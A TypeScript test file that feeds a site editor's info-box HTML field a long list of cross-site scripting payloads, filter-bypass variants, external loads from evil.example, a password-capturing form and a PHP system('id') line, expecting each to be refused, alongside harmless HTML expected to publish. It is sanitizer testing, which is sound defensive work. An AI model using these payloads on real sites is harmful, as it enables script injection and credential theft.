import { edit, object } from '../../support/edit-site.ts'
import { type HostileRow, published, refused } from '../row.ts'

const quoted = (html: string) => `'${html.replaceAll("'", "''")}'`
const inBox = (html: string) => edit(object, `info_box_text: { html: «${quoted(html)} }`)

const fragments = [
  ['<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>'],
  ['<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//'],
  ['<iframe src="javascript:alert(1)"></iframe>', '<object data="data:text/html,x"></object>'],
  ['<embed src="x">', '<base href="https://evil.example/">'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['<link rel="stylesheet" href="https://evil.example/">'],
  ['<style>*{background:url(//evil.example)}</style>'],
  ['<form action="https://evil.example/"><input name="password"></form>'],
  ['<button formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>'],
  ['<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>'],
  ['<audio src=x onerror=alert(1)>', '<math><mtext></mtext></math>', '<template><p>x</p></template>'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<textarea>x</textarea>'],
  ['<title>x</title>', '<plaintext>', '<xmp>x</xmp>', '<listing>x</listing>'],
  ['<marquee onstart=alert(1)>x</marquee>', '<select><option>x</option></select>'],
  ['<frameset onload=alert(1)>', '<body onload=alert(1)>', '</body>', '<html>', '<head>'],
  ['<x-evil>x</x-evil>', '<p style="position:fixed">x</p>', '<p onclick="alert(1)">x</p>'],
  ['<p class="x">x</p>', '<p id="x">x</p>', '<p data-x="x">x</p>', '<p/onclick=alert(1)>x</p>'],
  ['<p\tonclick=alert(1)>x</p>', '<a href="javascript:alert(1)">x</a>'],
  ['<a href="java&#10;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['<a href=" javascript:alert(1)">x</a>', '<a href="data:text/html,x">x</a>'],
  ['<a href="//evil.example/">x</a>', '<a href="/relative">x</a>'],
  ["<a href='https://example.org/' onclick='x'>x</a>"],
  ['<a href="https://example.org/" target="_blank">x</a>'],
  ['<a href="https://example.org/" href="javascript:alert(1)">x</a>', '<a name="x">x</a>'],
  ['<ol type="a"><li>x</li></ol>', '<td colspan="2">x</td>', '<h1>x</h1>', '<div>x</div>', '<span>x</span>'],
  ['<font color="red">x</font>', '<center>x</center>', '<!-- x -->', '<!--[if IE]><p>x</p><![endif]-->'],
  ['<![CDATA[x]]>', '<?xml version="1.0"?>', '<?php system("id") ?>', '<!DOCTYPE html>', '<p', '<p>x</p'],
  ['<scr<script>ipt>alert(1)</script>', '<<p>x</p>', '< p>x</p>', '<p >x</p >'],
  ['<table><tr><td><p>x</td></tr></table><script>x</script>', '<portal src="https://evil.example/">'],
  ['<dialog open>x</dialog>'],
].flat()

const harmless = [
  ['entities stay as they are', '<p>&lt;script&gt; &amp; &#60;b&#62;</p>'],
  ['a table is whole', '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>'],
  ['tags are not closed, as old pages have it', '<p>a<p>b'],
  ['a link has a title', '<a href="https://example.org/?a=1&amp;b" title="&quot;">x</a>'],
  ['a number begins a list', '<ol start="3"><li>x</li></ol>'],
  ['words look like a script', '<p>onclick=alert(1) javascript:alert(1)</p>'],
  ['nothing but a blank', ' '],
] as const

/** HTML that came from elsewhere. */
export const htmlRows: readonly HostileRow[] = [
  ...fragments.map(html => refused(`HTML is ${html}`, inBox(html), 'forbidden-html info_box_text.html')),
  refused(
    'HTML holds an escape of a terminal',
    edit(object, 'info_box_text: { html: «"<p>\\e[31m</p>" }'),
    'bad-text info_box_text.html',
  ),
  refused(
    'HTML holds NUL in a tag',
    edit(object, 'info_box_text: { html: «"<\\0script>x" }'),
    'bad-text info_box_text.html',
  ),
  ...harmless.map(([what, html]) => {
    const [files] = [edit(object, `info_box_text: { html: ${quoted(html)} }`)]
    return published(`in HTML ${what}`, files, { objects: { info_box_text: { text: html } } })
  }),
]
